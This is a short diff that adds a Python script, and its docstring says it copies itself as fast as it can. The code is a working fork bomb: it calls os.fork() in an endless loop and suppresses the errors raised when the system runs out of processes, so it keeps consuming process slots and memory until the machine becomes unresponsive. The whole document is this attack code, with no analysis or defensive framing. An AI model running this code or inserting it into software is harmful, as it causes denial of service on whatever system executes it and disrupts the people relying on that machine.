@@ -1,0 +1,9 @@
+"""Makes copies of itself as fast as it can."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
